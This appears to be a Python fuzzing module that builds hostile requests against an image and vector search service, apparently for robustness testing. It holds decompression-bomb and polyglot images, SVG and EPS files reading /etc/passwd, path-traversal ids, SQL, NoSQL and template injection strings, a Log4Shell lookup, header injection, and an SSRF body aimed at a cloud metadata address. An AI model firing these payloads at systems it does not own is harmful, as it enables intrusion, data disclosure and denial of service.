"""What a hostile stranger sends: pictures, filters, ids and bodies that have broken some service before."""

import base64
import io
import json
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

from PIL import Image, PngImagePlugin

JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True, slots=True)
class Attack:
    """One request.

    Attributes:
        name: What it is.
        method: HTTP method.
        path: With its query string, as it goes over the wire.
        body: Of a POST.
        headers: Beside the usual ones.
    """

    name: str
    method: str
    path: str
    body: bytes | None = None
    headers: tuple[tuple[str, str], ...] = ()


def pictures() -> dict[str, bytes]:
    """Files that claim to be pictures, or are odd ones."""
    noise = Image.effect_noise((64, 64), 80).convert("RGB")
    jpeg, png, webp, gif = (_saved(noise, kind) for kind in ("JPEG", "PNG", "WEBP", "GIF"))
    frames = [noise.rotate(90 * turn) for turn in range(4)]
    exif = Image.Exif()
    exif[0x0112] = 6
    bad_exif = Image.Exif()
    bad_exif[0x0112] = 99
    return {
        "empty": b"",
        "one byte": b"\xff",
        "text": b"hello",
        "html": b"<html><script>alert(1)</script></html>",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "svg bomb": b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 1000 + b'">]><svg>' + b"&a;" * 1000 + b"</svg>",
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n",
        "pdf": b"%PDF-1.7\n%\xe2\xe3\n",
        "bmp": _saved(noise, "BMP"),
        "tiff": _saved(noise, "TIFF"),
        "ico": _saved(noise, "ICO"),
        "jpeg": jpeg,
        "truncated jpeg": jpeg[: len(jpeg) // 2],
        "truncated png": png[: len(png) // 2],
        "truncated webp": webp[: len(webp) // 2],
        "truncated gif": gif[: len(gif) // 2],
        "jpeg header alone": jpeg[:20],
        "jpeg with a tail": jpeg + b"PK\x03\x04" + b"x" * 5000,
        "gif that is a script": b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)",
        "jpeg and html": jpeg[:-2] + b"<script>alert(1)</script>" + jpeg[-2:],
        "flipped bytes": bytes(byte ^ (place % 7 == 0) for place, byte in enumerate(jpeg)),
        "animated gif": _saved(frames[0], "GIF", save_all=True, append_images=frames[1:] * 20),
        "animated webp": _saved(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
        "apng": _saved(frames[0], "PNG", save_all=True, append_images=frames[1:]),
        "cmyk": _saved(noise.convert("CMYK"), "JPEG"),
        "sixteen bits": _saved(Image.new("I;16", (40, 30), 40_000), "PNG"),
        "one bit": _saved(noise.convert("1"), "PNG"),
        "palette with alpha": _saved(noise.convert("P"), "PNG", transparency=3),
        "alpha": _saved(noise.convert("RGBA"), "PNG"),
        "grey and alpha": _saved(noise.convert("LA"), "PNG"),
        "turned": _saved(noise, "JPEG", exif=exif),
        "turned nowhere": _saved(noise, "JPEG", exif=bad_exif),
        "broken exif": jpeg[:2] + b"\xff\xe1\x00\x10Exif\x00\x00MM\x00*\xff\xff\xff\xff" + jpeg[2:],
        "thin": _saved(Image.new("RGB", (1, 60_000), "red"), "PNG"),
        "flat": _saved(Image.new("RGB", (60_000, 1), "red"), "PNG"),
        "one pixel": _saved(Image.new("RGB", (1, 1), "red"), "PNG"),
        "huge by its header": _png(65_000, 65_000, zlib.compress(b"\0" * 100)),
        "enormous by its header": _png(2**31 - 1, 2**31 - 1, b""),
        "no width": _png(0, 10, zlib.compress(b"\0" * 100)),
        "bomb": _png(7_900, 7_900, zlib.compress((b"\0" + b"\xc8" * 7_900) * 7_900, 9), colours=0),
        "bomb of text": _png_with_text(),
        "huge gif": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\xf0\0\0" + b"\0" * 6 + b",",
        "huge webp": b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff\0\0",
    }


def filters() -> dict[str, object]:
    """Filters of every wrong kind, with `colour` for an attribute that there may be."""
    deep: object = {"colour": "red"}
    for _ in range(1000):
        deep = {"$not": deep}
    nested_list: object = "red"
    for _ in range(400):
        nested_list = [nested_list]
    return {
        "depth 1000": deep,
        "nested lists": {"colour": nested_list},
        "a million values": {"colour": ["x"] * 1_000_000},
        "ten thousand conditions": {"$or": [{"colour": "red"}] * 10_000},
        "ten thousand names": {f"a{number}": 1 for number in range(10_000)},
        "empty or": {"$or": []},
        "or of nothing": {"$or": [{}]},
        "not a list": {"$and": {"colour": "red"}},
        "unknown operator": {"$where": "sleep(1000)"},
        "regular expression": {"colour": {"$regex": "(a+)+$"}},
        "catastrophic text": {"colour": "a" * 50_000 + "!"},
        "sql": {"colour": "' OR 1=1; DROP TABLE products; --"},
        "unicode": {"colour": "\u202e\ufeff\U0001f600\u0000 é e\u0301 \ud7ff", "цвет": "красный"},
        "surrogate": {"colour": "\ud800"},
        "surrogate name": {"\udfff": "red"},
        "nul": {"colour": "\0", "\0": 1},
        "infinity": {"price": {"min": float("inf")}},
        "not a number": {"price": {"min": float("nan"), "max": float("nan")}},
        "huge number": {"price": {"min": 10**400}},
        "tiny number": {"price": {"min": 5e-324, "max": 1.7e308}},
        "number as text": {"price": {"min": "1e999"}},
        "boolean for a number": {"price": {"min": True}},
        "number for a text": {"colour": 3},
        "null": {"colour": None},
        "prototype": {"__proto__": {"colour": "red"}, "constructor": "x", "__class__": "y"},
        "backwards": {"price": {"min": 5, "max": 1}},
    }


IDS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e/%2e%2e/etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "\0",
    "a\nb",
    "a\r\nX-Injected: yes",
    " ",
    ".",
    "..",
    "\u202e",
    "é",
    "\U0001f600",
    "a" * 8000,
    "${jndi:ldap://x}",
    "{{7*7}}",
    "<script>",
    "' OR '1'='1",
    "-1",
    "NaN",
    "%s%s%s%n",
    "~root",
    "similar",
    "x/similar",
    "x/similar/similar",
)

BODIES: dict[str, bytes] = {
    "nothing": b"",
    "not json": b"{",
    "not utf-8": b'{"text": "\xff\xfe"}',
    "utf-16": '{"text": "red"}'.encode("utf-16"),
    "nul": b"\0" * 100,
    "a number": b"1",
    "huge number": b'{"k": ' + b"9" * 5000 + b"}",
    "infinite k": b'{"k": Infinity}',
    "deep lists": b"[" * 100_000,
    "deep objects": b'{"a":' * 50_000,
    "deep and closed": b'{"filters": ' + b'{"$not":' * 900 + b"{}" + b"}" * 901,
    "twice": b'{"text": "a", "text": "b"}',
    "long text": json.dumps({"text": "x" * 100_000}).encode(),
    "surrogate": b'{"text": "\\ud800"}',
    "nul text": b'{"text": "\\u0000red\\u0000"}',
    "many minuses": json.dumps({"text": "-a " * 600}).encode(),
    "quotes": json.dumps({"text": '"' * 1999}).encode(),
    "huge weight": b'{"text": "red", "weights": {"text": 1e308}}',
    "tiny weights": b'{"parts": [{"text": "red", "weight": 5e-324}, {"text": "blue", "weight": -5e-324}]}',
    "cancelling": b'{"parts": [{"text": "red"}, {"text": "red", "weight": -1}]}',
    "vector of zeros": json.dumps({"vector": [0.0] * 512}).encode(),
    "huge vector": json.dumps({"vector": [1e300] * 512}).encode(),
    "long vector": json.dumps({"vector": [0.5] * 8193}).encode(),
    "many parts": json.dumps({"parts": [{"text": "a"}] * 1000}).encode(),
    "many ids": json.dumps({"like": ["a"] * 1000}).encode(),
    "long id": json.dumps({"like": "a" * 1_000_000}).encode(),
    "many fields": json.dumps({"fields": ["colour"] * 100_000}).encode(),
    "address": b'{"image": "http://169.254.169.254/latest/meta-data/"}',
    "file address": b'{"image": "file:///etc/passwd"}',
    "data uri": b'{"image": "data:text/html;base64,PGI+"}',
    "bad base64": b'{"image": "!!!!"}',
}


def attacks() -> Iterator[Attack]:
    """All of it once, as requests."""
    for name, data in pictures().items():
        encoded = base64.b64encode(data).decode()
        yield _post(f"picture: {name}", {"image": encoded, "k": 2})
        yield _post(f"picture with text: {name}", {"image": encoded, "text": "red", "k": 2})
        yield _post(
            f"picture in a batch: {name}", {"queries": [{"image": encoded, "k": 1}, {"text": "red"}]}, "/search/batch"
        )
        yield _form(f"picture file: {name}", data)
    for name, wanted in filters().items():
        body = _nested_json({"text": "red", "filters": wanted, "k": 2})
        yield Attack(f"filter: {name}", "POST", "/search", body, tuple(JSON.items()))
        line = _nested_json(wanted)[:3000].decode("ascii")
        yield Attack(f"compact filter: {name}", "GET", f"/search?q=red&filter={quote(line)}")
    for path in ("/products/{}", "/images/{}", "/products/{}/similar", "/static/{}", "/v1/models/{}"):
        for product in IDS:
            raw = product.encode("utf-8", "surrogatepass")
            yield Attack(f"id {product[:20]!r} at {path}", "GET", path.format(quote(raw, safe="")))
            yield Attack(f"id {product[:20]!r} unquoted at {path}", "GET", path.format(quote(raw, safe="/.%")))
    for path in ("/search", "/search/batch", "/v1/embeddings", "/knn-service", "/metadata"):
        for name, body in BODIES.items():
            yield Attack(f"body: {name} at {path}", "POST", path, body, tuple(JSON.items()))
    for query in (
        "q=%00",
        "q=%ff%fe",
        "q=" + "a" * 9000,
        "k=1e9",
        "k=-1",
        "offset=99999999999999999999",
        "filter=a:b" * 2,
    ):
        yield Attack(f"query {query[:20]}", "GET", f"/search?{query}")
        yield Attack(f"suggest {query[:20]}", "GET", f"/suggest?{query}")
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE"):
        yield Attack(f"method {method}", method, "/search")


def random_attack(generator: random.Random, seeds: list[Attack], sent: Callable[[], bytes]) -> Attack:
    """One of the above with some of its bytes changed, cut out or doubled.

    Args:
        generator: Of chance.
        seeds: From `attacks`.
        sent: Gives random bytes.
    """
    seed = generator.choice(seeds)
    if seed.body is None or len(seed.body) > 200_000:
        return seed
    body = bytearray(seed.body)
    for _ in range(generator.randint(1, 8)):
        place = generator.randrange(len(body) + 1)
        match generator.randrange(4):
            case 0:
                body[place:place] = sent()
            case 1:
                del body[place : place + generator.randint(1, 16)]
            case 2 if place < len(body):
                body[place] = generator.randrange(256)
            case _:
                body[place:place] = body[place : place + 64]
    return Attack(f"changed {seed.name}", seed.method, seed.path, bytes(body), seed.headers)


def _post(name: str, body: object, path: str = "/search") -> Attack:
    return Attack(name, "POST", path, json.dumps(body).encode(), tuple(JSON.items()))


def _form(name: str, data: bytes) -> Attack:
    disposition = b'Content-Disposition: form-data; name="image"; filename="../../x.jpg"'
    head = b"--x\r\n" + disposition + b"\r\nContent-Type: image/jpeg\r\n\r\n"
    kind = (("Content-Type", "multipart/form-data; boundary=x"),)
    return Attack(name, "POST", "/search/image?k=2", head + data + b"\r\n--x--\r\n", kind)


def _nested_json(value: object) -> bytes:
    """JSON of something nested deeper than Python's encoder goes."""
    depth, inner = 0, value
    if isinstance(value, dict) and set(value) == {"$not"}:
        while isinstance(inner, dict) and set(inner) == {"$not"}:
            depth, inner = depth + 1, inner["$not"]
        return b'{"$not": ' * depth + json.dumps(inner).encode() + b"}" * depth
    if isinstance(value, dict) and "filters" in value:
        rest = {name: part for name, part in value.items() if name != "filters"}
        return json.dumps(rest).encode()[:-1] + b', "filters": ' + _nested_json(value["filters"]) + b"}"
    return json.dumps(value).encode()


def _saved(image: Image.Image, kind: str, **options: object) -> bytes:
    stream = io.BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def _png(width: int, height: int, data: bytes, *, colours: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, colours, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_with_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("comment", "x" * 30_000_000, zip=True)
    return _saved(Image.new("RGB", (10, 10)), "PNG", pnginfo=text)
